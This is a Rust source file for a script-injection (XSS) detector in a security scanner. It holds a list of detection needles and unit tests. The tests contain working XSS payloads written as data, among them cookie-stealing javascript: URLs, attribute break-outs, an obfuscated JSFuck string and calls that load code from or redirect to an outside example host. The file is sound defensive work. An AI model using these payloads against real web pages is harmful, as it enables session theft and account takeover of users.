//! Markup that makes a browser run code.
//!
//! **What it finds.** Script elements, attributes that handle events, addresses with `javascript:` or a document in
//! `data:`, style expressions, and code that breaks out of a string of a script; each with how much stands for an
//! attack: a break-out from an attribute, a call that shows or sends something, and a text that is nothing else.
//!
//! **Why it matters.** Shown in a page, such text acts with the rights of whoever looks at it.
//!
//! **Example.** `"><b onmouseover=alert(1)>`
//!
//! Pages, documentation and source code hold scripts and handlers by right: in the middle of other text, or without a
//! call that gives an attack away, they are told with less confidence only. To allow them, allow the class by field.

mod address;
mod attribute;
mod element;
mod script;
mod style;
mod value;

use super::{
    standing::{Standing, is_value, standing},
    tag::Tag,
};
use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    text::View,
};
use element::Verdict;
use palisade_model::Severity;

pub(crate) static XSS: Detector = Detector {
    class: "guard.injection.xss",
    version: "2",
    severity: Severity::High,
    title: "Script injection",
    remediation: "Escape text for the place it is shown in, or pass it through a sanitiser of markup.",
    references: &["CWE-79", "OWASP-LLM05"],
    finds: Finds::Places {
        needles: &[
            b"<a",
            b"<b",
            b"<c",
            b"<d",
            b"<e",
            b"<f",
            b"<g",
            b"<h",
            b"<i",
            b"<j",
            b"<k",
            b"<l",
            b"<m",
            b"<n",
            b"<o",
            b"<p",
            b"<q",
            b"<r",
            b"<s",
            b"<t",
            b"<u",
            b"<v",
            b"<w",
            b"<x",
            b"<y",
            b"<z",
            b"</",
            b"<?",
            b"<%",
            b"<\0",
            b"<![cdata[<",
            b"script:",
            b"data:text/html",
            b"data:image/svg",
            b"expression(",
            b"-moz-binding",
            b"\" on",
            b"\"on",
            b"\"/on",
            b"' on",
            b"'on",
            b"'/on",
            b"` on",
            b"\"\ton",
            b"alert(",
            b"alert`",
            b"alert)",
            b"alert,",
            b"alert?.",
            b"'alert'",
            b"\"alert\"",
            b"=alert",
            b"prompt(",
            b"prompt`",
            b"confirm(",
            b"confirm`",
            b"eval(",
            b"eval`",
            b"fromcharcode",
            b"document.cookie",
            b"document.domain",
            b"document.write",
            b"document.location",
            b".constructor",
            b"top[",
            b"-import(",
            b";import(",
            b"-fetch(",
            b";fetch(",
            b";location=",
            b";window.location=",
            b"+adw-",
            b"![]+",
            b"[]+{}",
            b"=~[];",
            b"\xEF\xBE\x9F\xCF\x89\xEF\xBE\x9F",
            b"\xC2\xBCscript",
            b"=&{",
        ],
        confirm,
    },
};

/// What it costs to judge a tag, in bytes that could be looked at in the time.
const TAG_EFFORT: usize = 32;

/// Bytes behind a tag that are read for what its element holds.
const ELEMENT_BYTES_MAX: usize = 1024;

/// Bytes before a call that belong to the payload.
const VALUE_START_BYTES_MAX: usize = 48;

/// Less sure than this, markup is ordinary unless something before it is not.
const TOLD_MIN: f64 = 0.45;

/// Less sure than this, what is found is only worth a look.
const HIGH_MIN: f64 = 0.8;

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    let bytes = view.bytes();
    if bytes[at] != b'<' {
        return without_markup(view, at);
    }
    // The type parameters of a language: `parse::<Name>`.
    if bytes[..at].ends_with(b"::") { Outcome::Clean { until: at + 1 } } else { markup(view, at) }
}

/// A tag at `at`.
fn markup(view: &View<'_>, at: usize) -> Outcome {
    let rest = &view.bytes()[at..];
    // A section whose only character is the bracket hides a tag from whoever looks for one.
    if rest.starts_with(b"<![CDATA[<]]>")
        && rest.get(13).is_some_and(|next| next.is_ascii_alphabetic() || *next == b'/')
    {
        let end = at
            + memchr::memmem::rfind(&rest[..rest.len().min(ELEMENT_BYTES_MAX)], b"]]>").map_or(13, |place| place + 3);
        return found(view, at, end, 0.88, "Sections of XML hide a tag.");
    }
    let Some(tag) = Tag::read(rest) else { return Outcome::Clean { until: at + 1 } };
    // Most tags have no attributes and say nothing.
    if tag.is_bare() && !element::acts_alone(&tag) {
        return Outcome::Clean { until: at + 1 };
    }
    let (verdict, length) = element::judge(&tag, rest);
    let end = at + length.max(1);
    view.spend(TAG_EFFORT + length);
    let Some((sure, why)) = verdict else { return Outcome::Clean { until: end } };
    let before = &view.bytes()[..at];
    let sure = if leaves_markup(before) { sure.max(0.88) } else { sure };
    // Pages have such markup by right.
    if sure < TOLD_MIN {
        return Outcome::Clean { until: end };
    }
    let closing = if tag.is("script") { held(&rest[length.min(rest.len())..]) } else { 0 };
    found(view, at, end + closing, sure, why)
}

/// Bytes of what the element holds, with the tag that closes it; what is left open holds the rest.
fn held(after: &[u8]) -> usize {
    let length = element::content(after).len();
    let closes = after[length..].get(..9).is_some_and(|tag| tag.eq_ignore_ascii_case(b"</script>"));
    length + if closes { 9 } else { 0 }
}

/// The value ends an attribute, a comment or an element whose content is text before it goes on with markup.
fn leaves_markup(before: &[u8]) -> bool {
    let before = before.trim_ascii();
    let Some(first) = before.first() else { return false };
    if before.len() > ELEMENT_BYTES_MAX {
        return false;
    }
    let ends = [&b"\">"[..], b"'>", b"`>", b"-->", b"\"/>", b"'/>", b"]]>", b"*/", b"\")", b"')", b"\";", b"';"]
        .iter()
        .any(|end| before.ends_with(end));
    // A comment that is whole closes nothing else.
    let opened = before.starts_with(b"<!--")
        || memchr::memchr(b'<', before).is_some_and(|open| before.get(open + 1).is_some_and(u8::is_ascii_alphabetic));
    let of_text = [&b"</script"[..], b"</title", b"</textarea", b"</style", b"</noscript", b"</template", b"</xmp"];
    let closes =
        of_text.iter().any(|name| before.get(..name.len()).is_some_and(|start| start.eq_ignore_ascii_case(name)));
    let quote = matches!(first, b'"' | b'\'' | b'`' | b'>') && !opened && memchr::memmem::find(before, b"</").is_some();
    quote
        || ends && !opened && (matches!(first, b'"' | b'\'' | b'`' | b'>' | b'-' | b']' | b'*') || before.len() < 32)
        || closes
}

/// A value that brings no markup; the needle stands at `at`.
fn without_markup(view: &View<'_>, at: usize) -> Outcome {
    if !is_value(view) {
        return Outcome::Clean { until: at + 1 };
    }
    let bytes = view.bytes();
    let verdict: Verdict = match bytes[at].to_ascii_lowercase() {
        b'"' | b'\'' | b'`' if is_handler_next(&bytes[at..]) => value::new_attribute(bytes, at),
        b's' => value::scheme_start(bytes, at).and_then(|start| value::target(bytes, start)),
        b'!' | b'[' | 0xEF => value::symbols(bytes, at),
        b'=' if bytes[at + 1] == b'~' => value::symbols(bytes, at),
        b'=' if bytes[at + 1] == b'&' => value::entity(bytes, at),
        0xC2 => value::eighth_bit(bytes, at),
        b'd' if bytes[at + 1].eq_ignore_ascii_case(&b'a') => value::target(bytes, at),
        b'e' if bytes[at + 1].eq_ignore_ascii_case(&b'x') => value::expression(bytes, at),
        b'+' => value::seven_bits(bytes, at),
        b';' | b'-' => value::code(bytes, at + 1),
        _ => value::code(bytes, at),
    };
    match verdict {
        None => Outcome::Clean { until: at + 1 },
        Some((sure, why)) => found(view, start_of(bytes, at), bytes.len(), sure, why),
    }
}

/// An attribute that handles an event may follow the quote.
fn is_handler_next(rest: &[u8]) -> bool {
    rest.get(1..)
        .is_some_and(|after| after.trim_ascii_start().first().is_some_and(|byte| matches!(byte | 0x20, b'o' | b'/')))
}

/// Where a value that is short before `at` begins, so that what it ends is shown as well; otherwise `at`.
fn start_of(bytes: &[u8], at: usize) -> usize {
    if at <= VALUE_START_BYTES_MAX { bytes.len() - bytes.trim_ascii_start().len() } else { at }
}

/// What stands from `start` to `end`, as sure as its surroundings leave it.
fn found(view: &View<'_>, start: usize, end: usize, sure: f64, why: &'static str) -> Outcome {
    let until = end;
    let standing = standing(view, &(start..end));
    // A page is full of what could run; only what attacks do is worth telling there.
    if standing != Standing::Value && sure < HIGH_MIN {
        return Outcome::Clean { until };
    }
    let end = view.slice(0..view.bytes().len()).ceil_char_boundary(end);
    let sure = standing.weigh(sure);
    let hit = Hit::text(start..end, None, sure, why).until(until.max(start + 1));
    Outcome::Found(if sure < HIGH_MIN { hit.rated(Severity::Medium) } else { hit })
}

#[cfg(test)]
mod tests {
    use crate::testing::check;

    #[test]
    fn markup_that_attacks() {
        check(
            "guard.injection.xss",
            &[
                ("<script>alert(1)</script>", 0..25),
                ("\"><b onmouseover=alert(1)>", 2..26),
                ("<svg/onload=prompt`4`", 0..21),
                ("<img src=x\nonerror\n=\nalert(8)>", 0..30),
                ("<a href=\"java\tscript:alert(3)\">", 0..31),
                ("<q/oncut=anything(3)>", 0..21),
                ("<div style='width:expression(alert(2))'>", 0..40),
                ("</title><script src=\"/a.js\"></script>", 8..37),
                ("<div style=\"x:\\65xpression(alert(2))\">", 0..38),
                ("<x v-on:click='_c.constructor`alert(2)`()'>", 0..43),
                ("<form name=getElementById>", 0..26),
                ("<script>top.location='//e.example'</script>", 0..43),
                ("<p oncontentvisibilityautostatechange=alert(2)>", 0..47),
            ],
            &[
                "It depends on = and on more, where a <b and c> d.",
                "let pairs: Vec<String> = map.into_iter().collect();",
                "<a href=\"/about\" class=\"link\">About us</a> <img src=\"/logo.png\" alt=\"\">",
                "<button onClick={() => alert('x')}>Save</button>",
                "<button @click=\"save()\" :class=\"{ a: b }\">Save</button>",
                "<input name=\"body\"><a name=\"implementation\">x</a>",
                "<!DOCTYPE html><html><head><title>T</title><script src=\"/app.js\"></script></head><body onload=\"init()\"></body></html>",
            ],
        );
    }

    #[test]
    fn values_that_attack() {
        check(
            "guard.injection.xss",
            &[
                ("javascript:alert(document.cookie)", 0..33),
                ("';alert(7)//", 0..12),
                ("x\" onfocus=alert(9) y=\"", 0..23),
                ("'-confirm(2)-'", 0..14),
                ("java\nscript:alert(2)", 0..20),
                ("?callback=alert(2)", 0..18),
                ("7-alert(2)", 0..10),
                ("';import('//e.example')//", 0..25),
                ("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", 0..37),
            ],
            &[
                "An alert (see below) was confirmed.",
                "let confirmation = on_click(5);",
                "<!-- Scripts -->\n<script src=\"../app.js\"></script>",
                "if (!confirm('Delete?')) return;",
                "JavaScript: the good parts (2008)",
                "javascript:void(0)",
                "    class=\"btn\" onclick=\"save()\"",
            ],
        );
    }
}
